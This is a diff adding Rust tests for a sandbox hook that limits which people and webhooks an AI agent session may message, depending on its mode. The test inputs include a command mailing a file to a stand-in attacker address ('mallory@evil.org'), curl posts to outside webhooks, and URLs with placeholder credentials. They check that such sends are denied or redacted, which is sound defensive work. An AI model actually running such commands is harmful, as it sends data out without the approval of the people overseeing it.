@@ -1,0 +1,153 @@
+//! Whom a session may write to, by its mode.
+
+use serde_json::{Value, json};
+
+use crate::sandbox::{Run, Sandbox, denied, passes};
+
+const CONTACTS: &str = "\
+contacts:
+  anna: {addresses: [anna@example.net, $FAMILY_URL, '#family'], tags: [claude_direct]}
+  bob: {addresses: [bob@example.net], tags: [claude_draft]}
+  chat: {addresses: ['https://chat.lan/post/']}
+policy:
+  webhooks: ['https://n8n.lan/webhook/']
+  tools:
+    mcp__chat__post: {action: notification, to: channel}
+    mcp__chat__shout: {action: notification}
+";
+
+fn rendered(inventory: &str) -> Sandbox {
+    let sandbox = Sandbox::new();
+    sandbox.write("hosts.yaml", inventory);
+    assert_eq!(sandbox.opsctl(&["render"], b"").code, Some(0));
+    sandbox
+}
+
+#[test]
+fn without_a_mode_only_the_tier_decides() {
+    let sandbox = Sandbox::new();
+    for command in ["apprise -b x ntfy://x", "mail -s x mallory@evil.org < f", "curl -d x https://ntfy.sh/y"]
+    {
+        passes(&sandbox.before("t1", command));
+    }
+    let sandbox = Sandbox::new().with("CLAUDEOPS_TIER", "1");
+    for (command, what) in [
+        ("apprise -b x ntfy://x", "apprise"),
+        ("mail -s x mallory@evil.org < f", "mail"),
+        ("curl -d x https://ntfy.sh/y", "curl to ntfy"),
+    ] {
+        let reason = denied(&sandbox.before("t1", command));
+        assert!(
+            reason.starts_with(&format!("Tier 1 may not carry out a notification (`{what}`)")),
+            "{reason}"
+        );
+    }
+}
+
+#[test]
+fn an_interactive_session_writes_to_those_who_are_tagged_for_it() {
+    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
+    passes(&sandbox.before("t1", "mail -s x anna@example.net < f"));
+    passes(&sandbox.after("t1", "mail -s x anna@example.net < f"));
+    assert_eq!(sandbox.sql("SELECT level || '|' || message FROM events"), "info|Notification sent via mail");
+    passes(&sandbox.before("t2", "apprise -b x \"$FAMILY_URL\""));
+    let reason = denied(&sandbox.before("t3", "mail -s x mallory@evil.org < f"));
+    assert_eq!(
+        reason,
+        "In interactive mode messages go only to contacts of hosts.yaml that are tagged `claude_direct`, and `mallory@evil.org` is none: not a notification (`mail`). Leave the text in your report for a person to send."
+    );
+    let reason = denied(&sandbox.before("t4", "ssh ie01 'mail -s x bob@example.net < f'"));
+    assert_eq!(
+        reason,
+        "bob is written to as a draft only (`claude_draft`): not a notification (`mail`, on ie01 through ssh). Write the message to a file in the results folder (CLAUDEOPS_RESULTS_DIR) and say so in your report; a person sends it."
+    );
+    // What only hosts.yaml makes an address of messages.
+    for command in ["curl https://n8n.lan/webhook/tell", "wget --post-data=x https://chat.lan/post/1"] {
+        assert!(denied(&sandbox.before("t5", command)).contains("/…` is none"), "{command}");
+    }
+    assert_eq!(sandbox.sql("SELECT DISTINCT rule FROM hook_decisions WHERE verdict = 'deny'"), "mode");
+}
+
+#[test]
+fn by_itself_a_session_writes_to_nobody() {
+    for mode in ["mission", "Background "] {
+        let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", mode);
+        let reason = denied(&sandbox.before("t1", "bash -c 'apprise -b x \"$FAMILY_URL\"'"));
+        let expected = format!(
+            "In {} mode no command writes to people: not a notification (`apprise`, through bash). opsctl itself tells the operators of budgets, of failures and of what stays unhealthy; say the rest in your report and on event lines.",
+            mode.trim().to_lowercase()
+        );
+        assert_eq!(reason, expected);
+        passes(&sandbox.before("t2", "docker restart jellyfin"));
+        passes(&sandbox.before("t3", "curl https://n8n.lan/health"));
+    }
+}
+
+#[test]
+fn a_mode_that_is_not_known_is_noted_and_the_strictest() {
+    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "auto");
+    let run = sandbox.before("t1", "ls -la");
+    let note = "opsctl: CLAUDE_SESSION_MODE is `auto`, not interactive, mission or background; holding this session to background\n";
+    assert_eq!((run.code, run.stderr.as_str()), (Some(0), note));
+    let run = sandbox.before("t2", "mail -s x anna@example.net < f");
+    assert!(run.stderr.contains("In background mode no command writes to people"), "{run:?}");
+}
+
+#[test]
+fn hosts_yaml_states_whom_a_mode_may_write_to_rendered_or_not() {
+    let inventory = format!("{CONTACTS}  modes: {{interactive: anyone, mission: contacts}}\n");
+    for is_rendered in [true, false] {
+        let sandbox = |mode: &str| {
+            let sandbox = if is_rendered { rendered(&inventory) } else { Sandbox::new() };
+            sandbox.write("hosts.yaml", &inventory);
+            sandbox.with("CLAUDE_SESSION_MODE", mode).with("CLAUDEOPS_HOSTS", "hosts.yaml")
+        };
+        passes(&sandbox("interactive").before("t1", "curl -d x https://ntfy.sh/y"));
+        passes(&sandbox("mission").before("t1", "mail -s x anna@example.net < f"));
+        let denial = denied(&sandbox("mission").before("t1", "curl https://n8n.lan/webhook/tell"));
+        assert!(denial.starts_with("In mission mode messages go only to contacts"), "{denial}");
+        denied(&sandbox("background").before("t1", "mail -s x anna@example.net < f"));
+    }
+}
+
+#[test]
+fn a_tool_that_sends_is_held_to_the_recipient_that_it_is_given() {
+    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
+    let call = |tool: &str, arguments: Value| -> Run {
+        let input = json!({"session_id": "s", "cwd": "/app", "tool_name": tool, "tool_input": arguments, "tool_use_id": "t"});
+        sandbox.hook("pre-tool-use", &input)
+    };
+    passes(&call("mcp__chat__post", json!({"channel": "#family", "text": "hi"})));
+    let reason = denied(&call("mcp__chat__post", json!({"channel": "#general", "text": "hi"})));
+    assert!(reason.contains("`#general` is none: not a notification (`mcp__chat__post`)"), "{reason}");
+    let reason = denied(&call("mcp__chat__post", json!({"channel": ["#family", "#general"]})));
+    assert!(reason.contains("`#general` is none"), "{reason}");
+    let reason = denied(&call("mcp__chat__shout", json!({"text": "hi"})));
+    assert!(reason.contains("cannot be told: its rule in hosts.yaml does not say"), "{reason}");
+}
+
+#[test]
+fn the_secrets_of_an_address_reach_neither_the_denial_nor_the_ledger() {
+    let sandbox = Sandbox::new().with("CLAUDE_SESSION_MODE", "interactive");
+    for command in [
+        "apprise -b x slack://hushhush/of/others",
+        "curl -d x https://hooks.slack.com/services/hushhush",
+        "curl -d x hooks.slack.com/services/hushhush",
+        "APPRISE_URLS=mailto://me:hushhush@example.net apprise -b x",
+        "curl -d x https://me:hushhush@ntfy.sh/topic",
+    ] {
+        let run = sandbox.before("t1", command);
+        denied(&run);
+        assert!(!format!("{run:?}").contains("hushhush"), "{run:?}");
+    }
+    assert!(!sandbox.sql(".dump").contains("hushhush"));
+}
+
+#[test]
+fn explain_says_what_the_mode_says() {
+    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "mission");
+    let run = sandbox.opsctl(&["explain", "--json", "curl -d x https://chat.lan/post/1"], b"");
+    let explained: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(explained["actions"][0]["evidence"], "curl to a webhook of hosts.yaml");
+    assert_eq!(explained["decision"], "deny");
+}
